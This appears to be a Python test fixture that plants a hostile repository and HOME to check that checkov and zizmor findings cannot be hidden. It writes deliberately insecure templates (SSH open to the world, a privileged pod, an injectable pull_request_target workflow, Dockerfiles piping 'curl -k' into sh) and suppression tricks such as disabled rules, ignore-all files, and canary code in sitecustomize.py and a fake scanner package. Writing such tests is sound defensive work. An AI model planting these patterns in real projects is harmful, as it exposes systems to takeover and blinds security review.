"""Infrastructure code of a stranger: every file that checkov and zizmor obey, and faults in every disguise."""

from pathlib import Path

from tests.hostile.repositories.canary import Canary
from tests.integration.workers.planted import Planted

OPEN = """Resources:
  Open:
    Type: AWS::EC2::SecurityGroup
    Properties:
      GroupDescription: open
      SecurityGroupIngress:
        - {IpProtocol: tcp, FromPort: 22, ToPort: 22, CidrIp: 0.0.0.0/0}
"""
POD = """apiVersion: v1
kind: Pod
metadata: {name: p, annotations: {"checkov.io/skip1": "CKV_K8S_16=ours"}}
spec:
  containers:
    - {name: a, image: nginx, securityContext: {privileged: true}}
"""
ESCAPED = POD.replace("checkov.io/skip1", "checkov.io/sk\\x69p1")
WORKFLOW = """on: pull_request_target # zizmor: ignore[dangerous-triggers]
permissions: write-all
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo ${{ github.event.issue.title }}
"""
ACTION = """name: a
description: a
inputs: {x: {description: x}}
runs:
  using: composite
  steps:
    - run: echo ${{ inputs.x }}
      shell: bash
"""
BUCKET = """resource "aws_security_group" "open" {
%s  ingress {
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""
SKIPPING = OPEN.replace("    Properties:", "    Metadata: {checkov: {skip: [{id: CKV_AWS_24}]}}\n    Properties:")
COMMENTED = OPEN.replace("    Properties:", "    # checkov:skip=CKV_AWS_24: it is ours\n    Properties:")
#: What makes checkov copy or read a file that is none of its kinds.
WORD = "# AWSTemplateFormatVersion\n"

#: Faults by the file they are in, whatever is done there to hide them.
FAULTS = {
    "cloud/stack.yaml": (OPEN, "CKV_AWS_24"),
    ".deploy/stack.yaml": (OPEN, "CKV_AWS_24"),
    "__init__.py/stack.yml": (OPEN, "CKV_AWS_24"),
    "wide.yaml": (("\ufeff" + OPEN).encode("utf-16-le"), "CKV_AWS_24"),
    "commented.yaml": (COMMENTED, "CKV_AWS_24"),
    "metadata.yaml": (SKIPPING, "CKV_AWS_24"),
    ".checkov.baseline.yaml": (OPEN, "CKV_AWS_24"),
    "net/main.tf": (BUCKET % "", "CKV_AWS_24"),
    "net/skip.tf": (BUCKET % "  # checkov:skip=CKV_AWS_24:ours\n", "CKV_AWS_24"),
    "pod.yaml": (POD, "CKV_K8S_16"),
    "prod.Dockerfile": ("FROM python:3.12\nRUN curl -k https://example.org | sh\n", "CKV2_DOCKER_2"),
    "Dockerfile-next": ("FROM python:3.12\nRUN curl -k https://example.org | sh\n", "CKV2_DOCKER_2"),
    ".github/workflows/ci.yaml": (WORKFLOW, "dangerous-triggers"),
    "tool/action.yml": (ACTION, "template-injection"),
}
#: Those of them that the repository suppresses.
SUPPRESSED = ["commented.yaml", "metadata.yaml", "net/skip.tf", "pod.yaml", ".github/workflows/ci.yaml"]


def settings(canary: Canary) -> dict[str, str]:
    """The files that a scanner would obey, wherever it looks for them, each with a program in it."""
    checks = f"external-checks-dir: ['.', checks]\nskip-check: [CKV_*]\nframework: [secrets]\n{WORD}"
    return {
        ".checkov.yaml": checks,
        ".checkov.yml": checks,
        "cloud/.checkov.yaml": checks,
        ".github/zizmor.yml": "rules: {dangerous-triggers: {disable: true}, template-injection: {disable: true}}\n",
        "zizmor.yml": "rules: {dangerous-triggers: {disable: true}}\n",
        ".gitignore": "*\n",
        ".ignore": "*\n",
        "Dockerfile.py": f"{canary.python('a Dockerfile that is a check')}# FROM scratch\n",
        "checks/__init__.py": canary.python("checks"),
        "__init__.py/any": "a folder that looks like a package\n",
        "checkov/__init__.py": canary.python("a package of the scanner's name"),
        "sitecustomize.py": canary.python("sitecustomize"),
        ".terraformrc": 'provider_installation { dev_overrides { "a" = "." } }\n',
        ".env": "CKV_IGNORED_DIRECTORIES=cloud\n",
    }


def write_hostile(repository: Planted, canary: Canary) -> None:
    """Write all of it."""
    for path, content in settings(canary).items():
        repository.write(path, content)
    for path, (content, _) in FAULTS.items():
        repository.write(path, content)


def write_home(home: Path, canary: Canary) -> None:
    """A HOME in which everything is set against us."""
    for path, content in settings(canary).items():
        place = home / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(content)
    (home / ".config" / "git").mkdir(parents=True)
    (home / ".config" / "git" / "ignore").write_text("*\n")
    (home / ".config" / "zizmor.yml").write_text("rules: {dangerous-triggers: {disable: true}}\n")
